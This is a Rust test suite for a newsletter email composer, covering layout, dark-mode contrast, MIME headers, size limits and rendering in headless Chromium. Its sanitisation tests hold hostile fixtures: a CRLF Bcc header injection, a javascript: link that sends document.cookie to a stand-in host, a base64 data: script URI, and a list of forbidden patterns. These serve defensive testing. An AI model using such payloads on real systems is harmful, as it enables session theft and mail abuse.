//! The email itself holds up in mail clients. Table layout at 600 px with inlined CSS, a hidden
//! preheader, `lang`, images with width and alt, dark-mode colours, size under Gmail's
//! clipping limit, clean MIME, absolute untracked links, no horizontal scroll at 375 px
//! in headless Chromium, and snapshots of a fixed edition.

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use crate::common::{EDITION, Scratch, qp_decode_bytes};

/// The demo week as an edition, composed to out/2026-W47/; built once and shared, so the
/// tests that use it only read it.
fn demo_composed() -> &'static Scratch {
    static DEMO: OnceLock<Scratch> = OnceLock::new();
    DEMO.get_or_init(|| {
        let s = Scratch::demo();
        s.run(&["fetch", "--quiet"]).ok();
        s.run(&["draft", "--now", "2026-11-21", "--out", EDITION])
            .ok();
        s.run(&["compose", EDITION, "--out", "out"]).ok();
        s
    })
}

const SENTENCES: &[&str] = &[
    "Las comunidades zapotecas de los Valles Centrales denunciaron que las concesiones mineras se otorgaron sin consulta previa, libre e informada.",
    "La asamblea acordó presentar un amparo colectivo y pidió a las organizaciones aliadas difundir la convocatoria a la marcha del sábado.",
    "Defensoras de derechos humanos en Chiapas documentaron amenazas, vigilancia y hostigamiento en las semanas previas a la audiencia.",
    "Women defenders in Honduras and Guatemala reported a new wave of threats after speaking out against land grabs in their territories.",
    "El albergue para personas migrantes en Ciudad Ixtepec pidió cartas de solidaridad dirigidas a la Fiscalía del estado de Oaxaca.",
    "Delegates will visit cooperatives in the Sierra Sur, meet community radio teams and learn about the defence of water and seeds.",
];

/// A scratch newsletter whose one source has `n` items of `sentences` sentences each, all
/// in the week ending 2026-11-21, each with an image that has neither width nor alt.
fn big_edition(n: usize, sentences: usize) -> Scratch {
    let s = Scratch::empty();
    s.write(
        "feeds.toml",
        r#"[newsletter]
title = "Boletín Solidaridad Oaxaca–Chiapas"
description = "Acciones urgentes, noticias y actividades de organizaciones aliadas en Oaxaca, Chiapas y Mesoamérica."
language = "es"
from = "Boletín Solidaridad <boletin@example.org>"
archive_url = "https://boletin.example.org/archivo/"

[[section]]
id = "news"
title = "Noticias y análisis / News and analysis"

[[source]]
id = "red"
name = "Red de Solidaridad Mesoamericana"
url = "sources/red.json"
section = "news"
site = "https://red.example.org/"
"#,
    );
    let items: Vec<serde_json::Value> = (0..n)
        .map(|i| {
            let body: String = (0..sentences)
                .map(|k| SENTENCES[(i + k) % SENTENCES.len()])
                .collect::<Vec<_>>()
                .join(" ");
            serde_json::json!({
                "id": format!("https://red.example.org/notas/{i}"),
                "url": format!("https://red.example.org/notas/{i}/"),
                "title": format!("Nota {i}: {}", &SENTENCES[i % SENTENCES.len()][..60]),
                "date_published": format!("2026-11-{:02}T{:02}:00:00-06:00", 15 + i % 6, 8 + i % 10),
                "authors": [{"name": "Área de Comunicación"}],
                "content_html": format!("<p><img src=\"/fotos/{i}.jpg\"></p><p>{body}</p>"),
            })
        })
        .collect();
    let feed = serde_json::json!({
        "version": "https://jsonfeed.org/version/1.1",
        "title": "Red", "home_page_url": "https://red.example.org/", "items": items,
    });
    s.write("sources/red.json", &feed.to_string());
    s.run(&["fetch", "--quiet"]).ok();
    s.run(&["draft", "--now", "2026-11-21", "--out", EDITION])
        .ok();
    s
}

#[test]
fn html_is_a_600px_table_with_inlined_css_lang_and_a_hidden_preheader() {
    let s = demo_composed();
    let html = s.read("out/2026-W47/email.html");
    assert!(html.contains("<html lang=\"es\""));
    assert!(html.contains("role=\"presentation\" width=\"600\""));
    assert!(html.contains("width: 600px"), "container width inlined");
    // CSS inlined: the headings carry their own styles; only @media rules stay in <style>.
    assert!(html.contains("<h1 style=\"margin: 0;font-family: Georgia"));
    assert!(html.contains("<h3 style="));
    let style = &html[html.find("<style>").unwrap()..html.find("</style>").unwrap()];
    assert!(
        style
            .trim_start_matches("<style>")
            .trim_start()
            .starts_with("@media"),
        "{style}"
    );
    // The preheader: first in the body, hidden everywhere.
    let body = &html[html.find("<body").unwrap()..];
    let pre = body.find("class=\"preheader\"").unwrap();
    assert!(pre < body.find("<table").unwrap());
    let tag_end = pre + body[pre..].find('>').unwrap();
    let tag = &body[pre..tag_end];
    assert!(
        tag.contains("display: none") && tag.contains("max-height: 0"),
        "{tag}"
    );
    // Readable on 375 px: fluid container and smaller padding under 620 px.
    assert!(html.contains("@media (max-width: 620px)"));
    assert!(html.contains("name=\"viewport\""));
}

#[test]
fn colours_survive_dark_mode() {
    let s = demo_composed();
    let html = s.read("out/2026-W47/email.html");
    assert!(html.contains("<meta name=\"color-scheme\" content=\"light dark\">"));
    assert!(html.contains("<meta name=\"supported-color-schemes\" content=\"light dark\">"));
    let dark = &html[html
        .find("@media (prefers-color-scheme: dark)")
        .expect("dark rules")..];
    let dark = &dark[..dark.find("</style>").unwrap()];
    // Every surface and every kind of text has a dark colour.
    for selector in [
        ".bg", ".card", "h1", "h3", ".prose", ".meta", ".foot", ".brand",
    ] {
        assert!(dark.contains(selector), "{selector} has no dark colour");
    }
    // Light text colours are dark greys (not pure black that inverts to pure white glare),
    // and backgrounds are set on the cells themselves so clients that invert keep contrast.
    assert!(!html.contains("color: #000000") && !html.contains("color:#000"));
    assert!(html.contains("bgcolor=\"#ffffff\""));
}

#[test]
fn images_have_a_width_and_alt_and_no_tracking_pixels() {
    let s = big_edition(4, 2);
    s.run(&["compose", EDITION, "--out", "out"]).ok();
    let html = s.read("out/2026-W47/email.html");
    let imgs: Vec<&str> = html
        .split("<img")
        .skip(1)
        .map(|r| &r[..r.find('>').unwrap()])
        .collect();
    assert_eq!(imgs.len(), 4);
    for img in imgs {
        assert!(img.contains("width=\"536\""), "{img}");
        assert!(img.contains("alt=\"\""), "{img}");
        assert!(
            img.contains("src=\"https://red.example.org/fotos/"),
            "{img}"
        );
        assert!(!img.contains("width=\"1\"") && !img.contains("height=\"1\""));
    }
}

fn hrefs(html: &str) -> Vec<String> {
    html.split(" href=\"")
        .skip(1)
        .chain(html.split(" src=\"").skip(1))
        .map(|r| r[..r.find('"').unwrap()].to_string())
        .collect()
}

#[test]
fn links_are_absolute_and_not_rewritten() {
    let s = demo_composed();
    let html = s.read("out/2026-W47/email.html");
    let links = hrefs(&html);
    assert!(links.len() > 20);
    for link in &links {
        assert!(
            link.starts_with("https://") || link.starts_with("mailto:"),
            "not absolute: {link}"
        );
        assert!(!link.contains("utm_") && !link.contains("/track"), "{link}");
    }
    // Item links are exactly the stored links, not redirects through us.
    let items = s
        .run(&["--json", "items", "--since", "7d", "--now", "2026-11-21"])
        .ok();
    for item in items.json().as_array().unwrap() {
        if let Some(link) = item["link"].as_str()
            && html.contains(item["title"].as_str().unwrap())
        {
            assert!(links.iter().any(|l| l == link), "{link} rewritten?");
        }
    }
    let text = s.read("out/2026-W47/email.txt");
    assert!(text.contains(
        "https://colectivo-oaxaca.example.org/2026/11/miles-marchan-contra-concesiones-mineras/"
    ));
}

#[test]
fn a_thirty_item_edition_stays_under_90_kb_encoded() {
    let s = big_edition(30, 3);
    let run = s.run(&["--json", "compose", EDITION, "--out", "out"]).ok();
    let json = run.json();
    assert_eq!(json["items"].as_u64(), Some(30));
    let encoded = json["html_encoded_bytes"].as_u64().unwrap();
    println!(
        "30-item edition: HTML {} bytes, quoted-printable {} bytes",
        json["html_bytes"], encoded
    );
    assert!(encoded < 90 * 1024, "{encoded} bytes");
    assert!(!run.stderr.contains("warning"), "{}", run.stderr);
    // The figure is the real size of the HTML part in the .eml.
    let eml = s.read("out/2026-W47/email.eml");
    let part = mime_part(&eml, "text/html");
    assert!(
        (part.len() as u64).abs_diff(encoded) < 2048,
        "{} vs {encoded}",
        part.len()
    );
}

#[test]
fn compose_warns_above_80_kb_and_names_the_costliest_items() {
    let s = big_edition(30, 14);
    let run = s.run(&["compose", EDITION, "--out", "out"]).ok();
    assert!(
        run.stderr.contains("warning: the HTML email is"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("over 80 KB"), "{}", run.stderr);
    assert!(run.stderr.contains("Costliest: item "), "{}", run.stderr);
    assert!(
        run.stderr.contains("\"Nota "),
        "names the items: {}",
        run.stderr
    );
}

/// The raw (still encoded) body of the part with this content type.
fn mime_part<'a>(eml: &'a str, content_type: &str) -> &'a str {
    let start = eml
        .find(&format!("Content-Type: {content_type}"))
        .unwrap_or_else(|| panic!("no {content_type} part"));
    let body = start + eml[start..].find("\r\n\r\n").unwrap() + 4;
    let end = body + eml[body..].find("\r\n--boletin-").unwrap();
    &eml[body..end]
}

/// Decodes quoted-printable (soft breaks and =XX escapes) as UTF-8.
fn unqp(s: &str) -> String {
    String::from_utf8(qp_decode_bytes(s)).expect("utf-8")
}

#[test]
fn the_eml_has_one_of_each_header_text_before_html_and_the_footer_in_both() {
    let s = Scratch::demo();
    s.run(&["fetch", "--quiet"]).ok();
    s.run(&["draft", "--now", "2026-11-21", "--out", EDITION])
        .ok();
    // A subject with an injection attempt and far too long.
    let text = s.read(EDITION);
    let subject = format!(
        "Boletín 47\\r\\nBcc: victima@example.com\\u0007 {}",
        "muy largo ".repeat(40)
    );
    let edited: String = text
        .lines()
        .map(|l| {
            if l.starts_with("subject = ") {
                format!("subject = \"{subject}\"")
            } else {
                l.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join("\n");
    s.write(EDITION, &edited);
    s.run(&["compose", EDITION, "--out", "out"]).ok();
    let eml = s.read("out/2026-W47/email.eml");
    let head = &eml[..eml.find("\r\n\r\n").unwrap()];
    let names: Vec<&str> = head
        .split("\r\n")
        .filter(|l| !l.starts_with(' ') && !l.starts_with('\t'))
        .map(|l| l.split(':').next().unwrap())
        .collect();
    for name in [
        "From",
        "To",
        "Date",
        "Message-ID",
        "Subject",
        "List-Id",
        "MIME-Version",
    ] {
        assert_eq!(
            names
                .iter()
                .filter(|n| n.eq_ignore_ascii_case(name))
                .count(),
            1,
            "{name} in {names:?}"
        );
    }
    assert!(
        !names.iter().any(|n| n.eq_ignore_ascii_case("Bcc")),
        "{head}"
    );
    assert!(head.contains("Message-ID: <") && head.contains("@example.org>"));
    assert!(head.contains("List-Id: \"Boletin Solidaridad Oaxaca-Chiapas\" <boletin.example.org>"));
    assert!(head.contains("Content-Type: multipart/alternative;"));
    // The subject header, unfolded, carries no control character and stays short.
    let lines: Vec<&str> = head.split("\r\n").collect();
    let at = lines
        .iter()
        .position(|l| l.starts_with("Subject: "))
        .unwrap();
    let subject_line: String = std::iter::once(lines[at])
        .chain(
            lines[at + 1..]
                .iter()
                .copied()
                .take_while(|l| l.starts_with(' ')),
        )
        .collect();
    assert!(!subject_line.chars().any(|c| c.is_control()));
    assert!(subject_line.len() < 600, "{}", subject_line.len());

    let text_at = eml
        .find("Content-Type: text/plain; charset=utf-8")
        .expect("text part");
    let html_at = eml
        .find("Content-Type: text/html; charset=utf-8")
        .expect("html part");
    assert!(text_at < html_at, "text first");
    assert_eq!(
        eml.matches("Content-Transfer-Encoding: quoted-printable")
            .count(),
        2
    );
    let text = unqp(mime_part(&eml, "text/plain"));
    let html = unqp(mime_part(&eml, "text/html"));
    for part in [&text, &html] {
        assert!(part.contains("mailto:boletin@example.org?subject=unsubscribe"));
        assert!(part.contains("https://boletin.example.org/2026-W47/"));
        assert!(part.contains("Recibes este boletín porque te suscribiste"));
        assert!(part.contains("Cancelar suscripción"));
    }
    assert!(html.contains("Miles marchan en Oaxaca"));
}

#[test]
fn the_text_part_carries_only_the_links_the_html_part_carries() {
    let s = Scratch::demo();
    s.run(&["fetch", "--quiet"]).ok();
    s.run(&["draft", "--now", "2026-11-21", "--out", EDITION])
        .ok();
    // An editor pasting from a partner's page: links to scripts, an inline document, a
    // tracked link, and a relative one.
    let intro = "Firma la [carta urgente](javascript:fetch('https://evil.example/'+document.cookie)) \
        y mira [el video](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==).\n\n\
        Lee [el informe](https://cdh-altos.example.org/informe.pdf?utm_source=boletin&utm_medium=email) \
        o [el archivo](../2026-W46/).";
    let blurb =
        "Ver [la convocatoria](JaVaScRiPt:alert(1)) o escribir a [la red](mailto:red@example.org).";
    let mut doc: toml_edit::DocumentMut = s.read(EDITION).parse().unwrap();
    doc["intro"] = toml_edit::value(intro);
    doc["section"][0]["item"][0]["blurb"] = toml_edit::value(blurb);
    s.write(EDITION, &doc.to_string());
    s.run(&["compose", EDITION, "--out", "out"]).ok();
    let text = s.read("out/2026-W47/email.txt");
    let html = s.read("out/2026-W47/email.html");
    for bad in [
        "javascript",
        "JaVaScRiPt",
        "data:",
        "document.cookie",
        "utm_",
    ] {
        assert!(!text.contains(bad), "{bad} in the text part:\n{text}");
        assert!(!html.contains(bad), "{bad} in the HTML part");
    }
    // Every address the text part shows is a link of the HTML part.
    let links = hrefs(&html);
    let shown: Vec<&str> = text
        .split(['<', '>', ' ', '\n'])
        .filter(|w| w.starts_with("https://") || w.starts_with("mailto:"))
        .collect();
    for url in [
        "https://cdh-altos.example.org/informe.pdf",
        "https://boletin.example.org/2026-W46/",
        "mailto:red@example.org",
    ] {
        assert!(shown.contains(&url), "{url} not in the text part:\n{text}");
    }
    for url in shown {
        assert!(
            links.iter().any(|l| l == url),
            "{url} is not linked in the HTML part"
        );
    }
    assert!(
        text.contains("Firma la carta urgente y mira el video."),
        "{text}"
    );
}

#[test]
fn a_3000_character_title_keeps_every_header_line_within_998_octets() {
    let s = Scratch::demo();
    let title = format!(
        "{} {}",
        "Boletín de la Red de Solidaridad con los Pueblos de Oaxaca, Chiapas y Guerrero "
            .repeat(36),
        "Mesoamérica".repeat(50)
    );
    assert!(title.chars().count() >= 3000);
    let config = s.read("feeds.toml").replace(
        "title = \"Boletín Solidaridad Oaxaca–Chiapas\"",
        &format!("title = \"{title}\""),
    );
    s.write("feeds.toml", &config);
    s.run(&["check"]).ok();
    s.run(&["fetch", "--quiet"]).ok();
    s.run(&["draft", "--now", "2026-11-21", "--out", EDITION])
        .ok();
    s.run(&["compose", EDITION, "--out", "out"]).ok();
    let eml = s.read("out/2026-W47/email.eml");
    let head = &eml[..eml.find("\r\n\r\n").unwrap()];
    for line in head.split("\r\n") {
        assert!(line.len() <= 998, "{} octets: {line}", line.len());
    }
    let list_id: Vec<&str> = head
        .split("\r\n")
        .skip_while(|l| !l.starts_with("List-Id: "))
        .take_while(|l| l.starts_with("List-Id: ") || l.starts_with(' '))
        .collect();
    assert!(list_id.iter().all(|l| l.len() <= 78), "{list_id:?}");
    // The message still reads as one, to an independent parser.
    let out = std::process::Command::new("python3")
        .arg("-c")
        .arg(
            "import email, email.policy, sys\n\
             m = email.message_from_bytes(open(sys.argv[1], 'rb').read(), policy=email.policy.default)\n\
             assert not m.defects, m.defects\n\
             for name in ('From', 'To', 'Subject', 'List-Id', 'List-Unsubscribe'):\n\
             \x20   print(name, m[name], sep=': ')\n\
             print(m.get_body(('plain',)).get_content().splitlines()[0][:40])\n",
        )
        .arg(s.path().join("out/2026-W47/email.eml"))
        .output()
        .expect("python3");
    let parsed = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{parsed}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        parsed.contains(
            "\nSubject: Boletín de la Red de Solidaridad con los Pueblos de Oaxaca, Chiapas y"
        ),
        "{parsed}"
    );
    assert!(parsed.contains("…\n"), "the subject is capped: {parsed}");
    assert!(parsed.contains("\nList-Id: \"Boletin de la Red de Solidaridad con los Pueblos de Oaxaca, C...\" <boletin.example.org>\n"), "{parsed}");
    assert!(
        parsed.contains("\nList-Unsubscribe: <mailto:boletin@example.org?subject=unsubscribe>\n"),
        "{parsed}"
    );
    assert!(
        parsed.ends_with("Boletín de la Red de Solidaridad con los\n"),
        "{parsed}"
    );
}

#[test]
fn snapshots_of_a_fixed_edition() {
    let s = demo_composed();
    insta::assert_snapshot!("edition_email_html", s.read("out/2026-W47/email.html"));
    insta::assert_snapshot!("edition_email_txt", s.read("out/2026-W47/email.txt"));
}

/// Runs headless Chromium with `html` in a `width`-px-wide frame (a real viewport of that
/// width: headless windows have a minimum width) and `probe`, a JavaScript expression
/// evaluated inside the email; returns its value, read back from the title of the dumped
/// DOM. With `shot`, also saves a screenshot there, cut to the frame's width.
pub fn chromium_probe(
    html: &str,
    width: u32,
    flags: &[&str],
    probe: &str,
    shot: Option<&Path>,
) -> String {
    let dir = tempfile::tempdir().unwrap();
    let script = format!("<script>parent.document.title='<<'+({probe})+'>>';</script>");
    let copy = html.replacen("</body>", &format!("{script}</body>"), 1);
    let srcdoc = copy.replace('&', "&amp;").replace('"', "&quot;");
    let wrapper = format!(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>-</title></head><body style=\"margin:0\"><iframe style=\"width:{width}px;height:2400px;border:0;display:block\" srcdoc=\"{srcdoc}\"></iframe></body></html>"
    );
    let page = dir.path().join("email.html");
    std::fs::write(&page, wrapper).unwrap();
    let url = format!("file://{}", page.display());
    let run = |extra: &[String]| {
        let profile = tempfile::tempdir().unwrap();
        crate::common::chromium(&crate::common::chromium_binary(), profile.path())
            .arg("--hide-scrollbars")
            .arg(format!("--window-size={width},2400"))
            .args(flags)
            .args(extra)
            .arg(&url)
            .output()
            .expect("run chromium")
    };
    let out = run(&["--dump-dom".to_string()]);
    let dom = String::from_utf8_lossy(&out.stdout);
    let value = dom
        .split("&lt;&lt;")
        .nth(1)
        .and_then(|t| t.split("&gt;&gt;").next())
        .unwrap_or_else(|| {
            panic!(
                "no probe value; chromium said: {}",
                String::from_utf8_lossy(&out.stderr)
            )
        })
        .to_string();
    if let Some(shot) = shot {
        let out = run(&[format!("--screenshot={}", shot.display())]);
        assert!(
            shot.exists(),
            "no screenshot: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    value
}

fn screenshots() -> PathBuf {
    // Kept as test artifacts: target/tmp/email-screenshots/.
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("email-screenshots");
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

#[test]
fn chromium_at_375_and_800_px_has_no_horizontal_scroll_with_or_without_images() {
    let s = big_edition(6, 3);
    s.run(&["compose", EDITION, "--out", "out"]).ok();
    let html = s.read("out/2026-W47/email.html");
    let probe = "document.documentElement.scrollWidth+'x'+window.innerWidth+'x'+document.body.innerText.length";
    for (width, images) in [(375, true), (375, false), (800, true)] {
        let shot = screenshots().join(format!(
            "edition-{width}px{}.png",
            if images { "" } else { "-no-images" }
        ));
        let flags: &[&str] = if images {
            &[]
        } else {
            &["--blink-settings=imagesEnabled=false"]
        };
        let value = chromium_probe(&html, width, flags, probe, Some(&shot));
        let nums: Vec<usize> = value.split('x').map(|n| n.parse().unwrap()).collect();
        let (scroll, inner, text) = (nums[0], nums[1], nums[2]);
        println!(
            "{width}px images={images}: scrollWidth {scroll}, innerWidth {inner}, text {text} chars, screenshot {}",
            shot.display()
        );
        assert!(
            scroll <= inner,
            "horizontal scroll at {width}px: {scroll} > {inner}"
        );
        assert!(text > 2000, "readable text present: {text}");
    }
    // The measurement can fail: without the narrow-screen rules the 600 px table scrolls.
    let rigid = html.replace("@media (max-width: 620px)", "@media (max-width: 1px)");
    let value = chromium_probe(&rigid, 375, &[], probe, None);
    let scroll: usize = value.split('x').next().unwrap().parse().unwrap();
    assert!(scroll > 375, "control case did not scroll: {value}");
}

/// The lowest contrast ratio (WCAG) between any visible text and its background.
const CONTRAST: &str = r#"(function(){
  function lum(c){var m=c.match(/[\d.]+/g).map(Number);var a=m.slice(0,3).map(function(v){v/=255;return v<=0.03928?v/12.92:Math.pow((v+0.055)/1.055,2.4)});return 0.2126*a[0]+0.7152*a[1]+0.0722*a[2];}
  function bg(e){while(e){var b=getComputedStyle(e).backgroundColor;if(b&&b!=='rgba(0, 0, 0, 0)'&&b!=='transparent')return b;e=e.parentElement;}return 'rgb(255, 255, 255)';}
  var min=99;
  document.querySelectorAll('h1,h2,h3,p,div,a,li,blockquote').forEach(function(e){
    if(e.closest('.preheader')||!e.innerText||!e.innerText.trim())return;
    var f=lum(getComputedStyle(e).color),b=lum(bg(e));
    var r=(Math.max(f,b)+0.05)/(Math.min(f,b)+0.05); if(r<min)min=r;});
  return min.toFixed(2);})()"#;

#[test]
fn chromium_text_keeps_its_contrast_in_light_and_dark_mode() {
    let s = demo_composed();
    let html = s.read("out/2026-W47/email.html");
    let light = chromium_probe(&html, 800, &[], CONTRAST, None);
    let dark_flag = ["--force-dark-mode"];
    let shot = screenshots().join("edition-375px-dark.png");
    let dark = chromium_probe(&html, 375, &dark_flag, CONTRAST, Some(&shot));
    let is_dark = chromium_probe(
        &html,
        375,
        &dark_flag,
        "matchMedia('(prefers-color-scheme: dark)').matches",
        None,
    );
    assert_eq!(is_dark, "true", "dark mode was emulated");
    println!(
        "lowest contrast: light {light}, dark {dark}; screenshot {}",
        shot.display()
    );
    let (light, dark): (f64, f64) = (light.parse().unwrap(), dark.parse().unwrap());
    assert!(light >= 4.5, "light mode contrast {light}");
    assert!(dark >= 4.5, "dark mode contrast {dark}");
}
